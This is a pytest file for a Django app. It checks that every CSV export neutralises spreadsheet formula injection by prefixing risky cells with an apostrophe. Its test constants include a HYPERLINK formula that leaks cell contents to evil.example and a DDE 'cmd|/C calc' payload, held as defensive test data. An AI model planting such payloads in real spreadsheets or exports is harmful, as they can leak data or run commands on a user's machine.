"""Every CSV export is safe to open in a spreadsheet (OWASP CSV injection): a cell that starts
with ``=``, ``+``, ``-``, ``@``, ``|``, ``%``, a tab or a carriage return arrives with an
apostrophe in front, so Excel and LibreOffice read it as text; plain numbers, negative ones
included, arrive as they are.

One test per export: each puts firm- (or agency-) written values that would be formulas where
that export shows them, reads the CSV back, finds them neutralised, and checks that no cell of
the whole file could run as a formula."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from django.http import StreamingHttpResponse

from firms.models import Firm, IPHolding
from programs.models import Country, Program
from sme_support.api.csv_export import CSVRenderer, csv_value, csv_writer, stream_rows
from tests.api.conftest import World

pytestmark = pytest.mark.django_db

# What a firm could type into its name, its website or a narrative, and what the export makes
# of it. A ``|`` after one of defusedcsv's characters gets a backslash (it chains commands in
# old Excel's DDE).
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
NARRATIVE = "- met 12 buyers in Paris; 3 contracts"
PHONE = "+82 2 123 4567"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CARRIAGE_RETURN = "\r=2+2"
PIPE = "|calc"
PERCENT = "%APPDATA%"
MINUS_FORMULA = "-2+3"

NEUTRALISED = {
    FORMULA: "'" + FORMULA,
    NARRATIVE: "'" + NARRATIVE,
    PHONE: "'" + PHONE,
    AT_SUM: "'@SUM(1+1)*cmd\\|' /C calc'!A0",
    TAB: "'" + TAB,
    CARRIAGE_RETURN: "'" + CARRIAGE_RETURN,
    PIPE: "'\\|calc",
    PERCENT: "'" + PERCENT,
    MINUS_FORMULA: "'" + MINUS_FORMULA,
}

FORMULA_STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9,.]+")


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, getattr(response, "content", b"")
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert all(not cell.startswith(FORMULA_STARTS) for cell in header)
    for row in body:
        for cell in row:
            # The property that matters to the manager's spreadsheet: nothing can run.
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), (header, row, cell)
    return [dict(zip(header, row, strict=True)) for row in body]


@dataclass
class Hostile:
    world: World

    def get(self, url: str, **params: Any) -> list[dict[str, str]]:
        return read_csv(self.world.client("manager").get(url, {"format": "csv", **params}))


@pytest.fixture
def hostile(world: World) -> Hostile:
    """Values that would run as formulas, stored the way a firm's form or an import could
    leave them (written directly: the exports, not the forms, are under test)."""
    Firm.objects.filter(pk=world.firm_b.pk).update(name_en=FORMULA, name_ko=NARRATIVE, website=AT_SUM)
    Firm.objects.filter(pk=world.firm_c.pk).update(name_en=TAB, name_ko=CARRIAGE_RETURN)
    Program.objects.filter(pk=world.program_a.pk).update(title_en=PHONE)
    Program.objects.filter(pk=world.program_b.pk).update(title_en=PIPE, event_name=PERCENT, event_city=NARRATIVE)
    Country.objects.filter(pk="DE").update(name_en=MINUS_FORMULA)
    Country.objects.filter(pk="FR").update(name_en=FORMULA)
    IPHolding.objects.create(firm=world.firm_c, kind=IPHolding.Kind.TRADEMARK, country_id="DE", registration_number="1")
    return Hostile(world)


def by(rows: list[dict[str, str]], column: str, value: Any) -> dict[str, str]:
    [row] = [row for row in rows if row[column] == str(value)]
    return row


def test_applications_csv(hostile: Hostile) -> None:
    world = hostile.world
    rows = hostile.get("/api/v1/applications/")
    app_ba, app_cb = by(rows, "id", world.app_ba.pk), by(rows, "id", world.app_cb.pk)
    assert app_ba["firm_name_en"] == NEUTRALISED[FORMULA]
    assert app_ba["firm_name_ko"] == NEUTRALISED[NARRATIVE]
    assert app_cb["firm_name_en"] == NEUTRALISED[TAB]
    assert app_cb["firm_name_ko"] == NEUTRALISED[CARRIAGE_RETURN]
    # Numbers stay numbers; the firm's registration number is digits and stays so.
    assert app_ba["requested_units"] == str(world.app_ba.requested_units)
    assert app_ba["firm_brn"] == world.firm_b.brn


def test_firms_csv(hostile: Hostile) -> None:
    world = hostile.world
    rows = hostile.get("/api/v1/firms/")
    firm_b, firm_c = by(rows, "id", world.firm_b.pk), by(rows, "id", world.firm_c.pk)
    assert (firm_b["name_en"], firm_b["name_ko"], firm_b["website"]) == (
        NEUTRALISED[FORMULA],
        NEUTRALISED[NARRATIVE],
        NEUTRALISED[AT_SUM],
    )
    assert (firm_c["name_en"], firm_c["name_ko"]) == (NEUTRALISED[TAB], NEUTRALISED[CARRIAGE_RETURN])
    assert firm_b["annual_revenue_krw"] == str(world.firm_b.annual_revenue_krw)


def test_programs_csv(hostile: Hostile) -> None:
    world = hostile.world
    rows = hostile.get("/api/v1/programs/")
    alpha, bravo = by(rows, "code", "alpha"), by(rows, "code", "bravo")
    assert alpha["title_en"] == NEUTRALISED[PHONE]
    assert (bravo["title_en"], bravo["event_name"], bravo["event_city"]) == (
        NEUTRALISED[PIPE],
        NEUTRALISED[PERCENT],
        NEUTRALISED[NARRATIVE],
    )
    assert alpha["capacity"] == str(world.program_a.capacity)


def test_outcome_reports_csv(hostile: Hostile) -> None:
    world = hostile.world
    rows = hostile.get("/api/v1/outcome-reports/")
    report = by(rows, "id", world.report_cb.pk)
    assert report["firm_name_en"] == NEUTRALISED[TAB]
    assert report["contracts_usd"] == "20000"


def test_countries_csv(hostile: Hostile) -> None:
    rows = hostile.get("/api/v1/countries/")
    assert by(rows, "iso2", "DE")["name_en"] == NEUTRALISED[MINUS_FORMULA]
    assert by(rows, "iso2", "FR")["name_en"] == NEUTRALISED[FORMULA]
    assert by(rows, "iso2", "DE")["numeric"] == "276"


def test_application_statistics_csv(hostile: Hostile) -> None:
    rows = hostile.get("/api/v1/stats/applications/", group_by="program")
    assert by(rows, "program_code", "alpha")["program_title"] == NEUTRALISED[PHONE]
    assert by(rows, "program_code", "bravo")["program_title"] == NEUTRALISED[PIPE]
    assert by(rows, "program_code", "bravo")["contracts_usd"] == "20000"
    rows = hostile.get("/api/v1/stats/applications/", group_by="country")
    assert by(rows, "country", "DE")["country_name"] == NEUTRALISED[MINUS_FORMULA]
    assert by(rows, "country", "FR")["country_name"] == NEUTRALISED[FORMULA]


def test_outcome_statistics_csv(hostile: Hostile) -> None:
    rows = hostile.get("/api/v1/stats/outcomes/", group_by="country,program")
    [row] = rows
    assert (row["country_name"], row["program_title"]) == (NEUTRALISED[MINUS_FORMULA], NEUTRALISED[PIPE])
    assert row["buyer_meetings"] == "4"


def test_ip_filing_statistics_csv(hostile: Hostile) -> None:
    rows = hostile.get("/api/v1/stats/ip-filings/", group_by="country")
    germany = by(rows, "country", "DE")
    assert germany["country_name"] == NEUTRALISED[MINUS_FORMULA]
    assert germany["filings"] == "1"


def test_json_keeps_the_values_as_they_are(hostile: Hostile) -> None:
    """Only the CSV is altered for spreadsheets; the API's JSON is the exact data."""
    body = hostile.world.client("manager").get(f"/api/v1/firms/{hostile.world.firm_b.pk}/").json()
    assert (body["name_en"], body["name_ko"]) == (FORMULA, NARRATIVE)


# --- The writer itself: every CSV goes through it -------------------------------------------------


def written(*cells: Any) -> list[str]:
    line = csv_writer(_Lines()).writerow([csv_value(cell) for cell in cells])
    return next(csv.reader(io.StringIO(line, newline="")))


class _Lines:
    def write(self, value: str) -> str:
        return value


@pytest.mark.parametrize("payload", list(NEUTRALISED))
def test_the_writer_neutralises_every_formula_start(payload: str) -> None:
    assert written(payload) == [NEUTRALISED[payload]]


def test_numbers_stay_plain_numbers_negative_ones_included() -> None:
    cells = [-5, 1_200_000_000, -2.8, Decimal("-2.8000"), -1.5e-06, 1.33e-06, 0.0, "-1,250", "-12.5"]
    assert written(*cells) == [
        "-5",
        "1200000000",
        "-2.8",
        "-2.8000",
        "-0.0000015",
        "0.00000133",
        "0.0",
        "-1,250",
        "-12.5",
    ]


def test_text_that_merely_contains_formula_characters_is_left_alone() -> None:
    assert written("Kim & Lee = partners", "R&D - games", "a|b", "email@example.org") == [
        "Kim & Lee = partners",
        "R&D - games",
        "a|b",
        "email@example.org",
    ]


def test_stream_rows_and_the_renderer_write_through_the_safe_writer() -> None:
    response = stream_rows(header=["name", "delta"], rows=[[FORMULA, -3]], filename="x.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "delta"], [NEUTRALISED[FORMULA], "-3"]]
    rendered = CSVRenderer().render({"results": [{"name": TAB, "delta": -3.5}]}).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(rendered, newline=""))) == [["name", "delta"], [NEUTRALISED[TAB], "-3.5"]]
